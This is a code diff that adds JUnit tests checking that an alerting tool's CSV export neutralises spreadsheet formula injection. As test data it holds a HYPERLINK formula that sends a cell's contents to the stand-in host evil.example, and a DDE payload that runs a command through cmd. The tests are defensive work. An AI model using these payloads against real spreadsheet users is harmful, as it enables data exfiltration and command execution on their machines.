@@ -8,6 +8,7 @@ import io.wirewatch.alerts.rules.RuleEngine;
 import io.wirewatch.alerts.testing.Stories;
 import io.wirewatch.schema.Alert;
 import io.wirewatch.schema.AvroJson;
+import io.wirewatch.schema.EnrichedStory;
 import java.io.StringWriter;
 import java.time.Instant;
 import java.util.List;
@@ -19,6 +20,31 @@ class ExportsTest {
     void shouldQuoteCsvFieldsAsRfc4180Says() {
         assertThat(Exports.csvRow(List.of("plain", "a,b", "say \"no\"", "two\nlines", "cr\r", "")))
                 .isEqualTo("plain,\"a,b\",\"say \"\"no\"\"\",\"two\nlines\",\"cr\r\",\r\n");
+    }
+
+    @Test
+    void shouldNeutraliseEveryCellASpreadsheetWouldTakeForAFormula() {
+        assertThat(Exports.csvRow(List.of("=1+1", "+A1", "-2+3", "@SUM(A1)", "\tx", "\rx", "-0.50", "+3", "a=b")))
+                .isEqualTo("\"'=1+1\",\"'+A1\",\"'-2+3\",\"'@SUM(A1)\",\"'\tx\",\"'\rx\",-0.50,+3,a=b\r\n");
+    }
+
+    @Test
+    void shouldNeutraliseAHostileStoryTitleAndActorNameInTheAlertAndStoryCsv() {
+        EnrichedStory story = Stories.seed();
+        story.getStory().setTitle("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
+        story.getEntities().get(0).setActorName("@SUM(1+1)*cmd|' /C calc'!A0");
+        Alert alert = RuleEngine.evaluate(DefaultRules.ruleSet(), story, Instant.EPOCH).get(0);
+        assertThat(alert.getTitle()).startsWith("@SUM(1+1)");
+        StringWriter alerts = new StringWriter();
+        StringWriter stories = new StringWriter();
+
+        Exports.alerts(List.of(alert), Exports.Format.CSV, alerts);
+        Exports.stories(List.of(story), Exports.Format.CSV, stories);
+
+        assertThat(alerts.toString()).contains(",8.90,\"'@SUM(1+1)*cmd|' /C calc'!A0 (RUS)")
+                .contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",")
+                .doesNotContain(",=").doesNotContain(",@");
+        assertThat(stories.toString().split("\r\n")[1]).contains(",\"'=HYPERLINK(").doesNotContain(",=");
     }
 
     @Test
